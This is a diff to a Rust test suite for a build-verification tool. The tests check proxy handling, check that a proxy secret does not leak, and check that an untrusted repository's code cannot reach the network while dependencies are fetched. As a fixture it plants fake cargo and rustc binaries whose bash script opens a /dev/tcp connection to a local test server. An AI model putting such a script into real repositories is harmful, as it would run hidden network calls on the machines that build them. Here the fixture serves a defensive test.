@@ -3,11 +3,13 @@
 
 use std::sync::{Arc, Mutex};
 
+use provenear_tests::git_server::GitServer;
 use provenear_tests::http::{Reply, Request, Response, Server};
 
 use crate::bench::{Bench, Ended, File, Kind};
 use crate::dependencies::{LOCK, MANIFEST, SOURCE};
 
+const DEP: &str = "[package]\nname = \"dep\"\nversion = \"1.0.0\"\nedition = \"2021\"\n";
 const COPY: &str = "mkdir out; cp pre.wasm out/a.wasm\n";
 const WASM: File<'_> = File::Bytes(b"\0asm\x01\0\0\0");
 /// As in a password that must not get anywhere.
@@ -43,7 +45,7 @@ fn proxies_reach_the_fetch_alone(kind: Kind) {
     let bench = Bench::new(kind);
     let (server, heard) = ear();
     let proxy = server.url().replace("http://", &format!("http://me:{SECRET}@"));
-    // Source and image are on this machine, and are had without the proxy; the fetch goes through it.
+    // Source and image are on this machine, and are had without the proxy; the helper's own fetch goes through it.
     let files =
         [("Cargo.toml", File::Text(MANIFEST)), ("Cargo.lock", File::Text(LOCK)), ("src/lib.rs", File::Text(SOURCE))];
     let needy = bench.claim("needy", &bench.repository("needy", &files), &["true"]);
@@ -51,7 +53,9 @@ fn proxies_reach_the_fetch_alone(kind: Kind) {
     assert_eq!((refused.code(), refused.exit), ("network-needed", 5), "{} {}", refused.json, refused.stderr);
     let asked: Vec<String> = heard.lock().unwrap().iter().map(|request| request.method.clone()).collect();
     assert!(asked.iter().any(|method| method == "CONNECT"), "the fetch went around the proxy: {asked:?}");
-    assert!(!refused.json.to_string().contains(SECRET));
+    let told = heard.lock().unwrap().iter().any(|request| request.header("proxy-authorization").is_some());
+    assert!(told, "the proxy was not told the password");
+    assert!(!refused.json.to_string().contains(SECRET) && !refused.stderr.contains(SECRET), "{}", refused.stderr);
 
     let files =
         [("pre.wasm", WASM), ("build.sh", File::Text("env | cut -d= -f1 | sort\nmkdir out; cp pre.wasm out/a.wasm\n"))];
@@ -90,6 +94,17 @@ fn proxies_reach_the_fetch_alone(kind: Kind) {
 fn the_fetch_runs_nothing_of_the_repository(kind: Kind) {
     let bench = Bench::new(kind);
     let (server, heard) = ear();
+    // Only what is not on crates.io needs a program with network, cargo.
+    let commit =
+        bench.repository("dep", &[("Cargo.toml", File::Text(DEP)), ("src/lib.rs", File::Text("#![no_std]\n"))]);
+    let git = GitServer::start_for_containers(bench.path("git")).unwrap();
+    let dep = format!("{}/dep.git", git.url());
+    let needs = format!("[dependencies]\ndep = {{ git = \"{dep}\", rev = \"{commit}\" }}\n");
+    let manifest = MANIFEST.replace("[dependencies]\n", &needs);
+    let lock = format!(
+        "{}\n[[package]]\nname = \"dep\"\nversion = \"1.0.0\"\nsource = \"git+{dep}?rev={commit}#{commit}\"\n",
+        LOCK.replace("\"cfg-if\",\n]", "\"cfg-if\",\n \"dep\",\n]")
+    );
     let host = server.url().replace("http://", "").replace(':', "/");
     let evil =
         format!("#!/bin/bash\nexec 3<>/dev/tcp/{host}; echo -e 'GET /evil HTTP/1.0\\r\\n\\r' >&3; cat <&3\nexit 1\n");
@@ -103,16 +118,16 @@ fn the_fetch_runs_nothing_of_the_repository(kind: Kind) {
         ("rust-toolchain.toml", File::Text("[toolchain]\npath = \"/home/near/code/toolchain\"\n")),
         ("toolchain/bin/cargo", File::Program(&evil)),
         ("toolchain/bin/rustc", File::Program(&evil)),
-        ("Cargo.toml", File::Text(MANIFEST)),
-        ("Cargo.lock", File::Text(LOCK)),
+        ("Cargo.toml", File::Text(&manifest)),
+        ("Cargo.lock", File::Text(&lock)),
         ("src/lib.rs", File::Text(SOURCE)),
         ("pre.wasm", WASM),
         ("build.sh", File::Text("./evil\ncargo --version\nmkdir out; cp pre.wasm out/a.wasm\n")),
     ];
     let claim = bench.claim("evil", &bench.repository("evil", &files), &["bash", "build.sh"]);
-    let fetched = bench.rebuild(&claim, &[]);
+    let fetched = bench.rebuild(&claim, &["--trust-image-network"]);
     assert_eq!(fetched.exit, 0, "{} {}", fetched.json["error"], fetched.stderr);
-    assert!(fetched.stderr.contains("Download"), "nothing was fetched: {}", fetched.stderr);
+    assert!(fetched.stderr.contains("Updating git repository"), "cargo fetched nothing: {}", fetched.stderr);
     assert_eq!(heard.lock().unwrap().len(), 0, "something of the repository ran with network");
     for notice in ["rustc-wrapper", "toolchain-not-pinned", "prebuilt-wasm-in-tree"] {
         assert!(fetched.notices().iter().any(|n| n == notice), "{notice}: {:?}", fetched.notices());
